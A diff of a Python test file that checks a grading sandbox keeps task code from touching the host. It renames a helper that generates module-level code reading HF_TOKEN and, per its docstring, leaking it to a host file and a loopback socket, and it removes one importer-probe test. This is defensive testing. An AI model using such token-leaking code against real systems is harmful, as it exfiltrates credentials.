@@ -1,7 +1,7 @@
 """Corpus code runs only in the sandbox, and what it leaves there dies with it (issue #21).
 
 - a task reference that writes a file, opens a socket or reads the environment at module level does
-  none of these, neither when an importer probes it nor when a grade runs it;
+  none of these when a grade runs it (the importer's probe of it: tests/test_importers.py);
 - a worker's SysV shared memory is gone after its grade, and the next grade cannot see it;
 - /proc in a worker lists only the worker's own processes;
 - a forged frame is refused before its claimed size is buffered.
@@ -29,7 +29,7 @@ GELU = ("import math, torch\n"
         "    return 0.5 * x * (1.0 + torch.erf(x * (1.0 / math.sqrt(2.0))))\n")
 
 
-class _Listener:
+class HostListener:
     """A TCP server on the host's loopback that counts the connections it accepts."""
 
     def __init__(self) -> None:
@@ -56,7 +56,7 @@ class _Listener:
         self.sock.close()
 
 
-def _hostile_module_level(marker: str, port: int) -> str:
+def hostile_module_level(marker: str, port: int) -> str:
     """Module-level code of a hostile reference: leak the token into a host file and over a socket."""
     return (f"import os, socket\n"
             f"_token = os.environ.get('HF_TOKEN', '')\n"
@@ -72,30 +72,9 @@ def _hostile_module_level(marker: str, port: int) -> str:
 
 @pytest.fixture
 def listener():
-    srv = _Listener()
+    srv = HostListener()
     yield srv
     srv.close()
-
-
-@needs_root
-def test_importer_probe_runs_a_hostile_reference_only_in_the_sandbox(tmp_path, listener, monkeypatch):
-    from pipelines.importers import kernelbench as kb
-
-    monkeypatch.setenv("HF_TOKEN", "hf_secret_of_the_host")
-    marker = tmp_path / "leaked"
-    code = _hostile_module_level(str(marker), listener.port) + (
-        "import torch\n"
-        "class Model(torch.nn.Module):\n"
-        "    def forward(self, x):\n"
-        "        return x * 2\n"
-        "def get_inputs():\n"
-        "    return [torch.randn(4, 8)]\n"
-        "def get_init_inputs():\n"
-        "    return []\n")
-    got = kb.probe_outputs({"hostile": (code, [([4, 8], "float32", "normal", 0.0, 1.0)])})
-    assert got["hostile"] == kb.ProbeResult((4, 8), "float32", 0), got  # it ran, in the sandbox
-    assert not marker.exists(), "the reference wrote a file on the host"
-    assert listener.accepted == 0, "the reference reached a host socket"
 
 
 @needs_root
@@ -126,7 +105,7 @@ def test_grade_runs_a_hostile_reference_only_in_the_sandbox(tmp_path, listener, 
     monkeypatch.setenv("HF_TOKEN", "hf_secret_of_the_host")
     marker = tmp_path / "leaked"
     card = dataclasses.replace(load_catalogue()["gelu_fp32"], task_id="hostile_gelu",
-                               reference=_hostile_module_level(str(marker), listener.port) + GELU)
+                               reference=hostile_module_level(str(marker), listener.port) + GELU)
     cards = tmp_path / "cards.jsonl"
     cards.write_text(json.dumps(dataclasses.asdict(card)) + "\n")
     with GraderService(workers=1, catalogue_extra=[str(cards)]) as svc:
